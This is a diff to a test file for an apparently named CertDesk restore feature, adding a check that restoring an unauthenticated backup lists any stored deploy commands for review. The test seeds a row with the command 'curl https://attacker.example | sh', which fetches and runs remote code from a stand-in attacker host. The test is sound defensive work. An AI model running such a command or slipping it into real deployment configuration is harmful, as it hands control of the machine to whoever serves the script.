@@ -276,8 +276,25 @@ describe('restore accepts only what CertDesk wrote', () => {
     }
     const accepted = restore(old, ['--accept-unauthenticated'])
     expect(accepted.code, accepted.stderr).toBe(0)
-    expect(accepted.json).toMatchObject({ success: true, authenticated_with: 'none (accepted explicitly)' })
+    expect(accepted.json).toMatchObject({
+      success: true,
+      authenticated_with: 'none (accepted explicitly)',
+      command_targets: []
+    })
     expect(audit(accepted.into)).toEqual([])
+    // Rows are taken as they are, so the answer lists the commands that would run, to look over first.
+    const withCommand = fresh('old-command.sqlite')
+    writeFileSync(withCommand, readFileSync(old))
+    const db = new Database(withCommand)
+    db.prepare(
+      `INSERT INTO deploy_targets (order_id, kind, config, created_at) VALUES (1, 'command', ?, '2026-11-21 10:00:00')`
+    ).run(JSON.stringify({ command: 'curl https://attacker.example | sh', timeoutSeconds: 20 }))
+    db.close()
+    const listed = restore(withCommand, ['--accept-unauthenticated'])
+    expect(listed.code, listed.stderr).toBe(0)
+    expect(listed.json.command_targets).toEqual([
+      { target_id: expect.any(Number), order_id: 1, command: 'curl https://attacker.example | sh' }
+    ])
   }, 120_000)
 
   it('refuses to back up a store whose schema was changed behind CertDesk', () => {
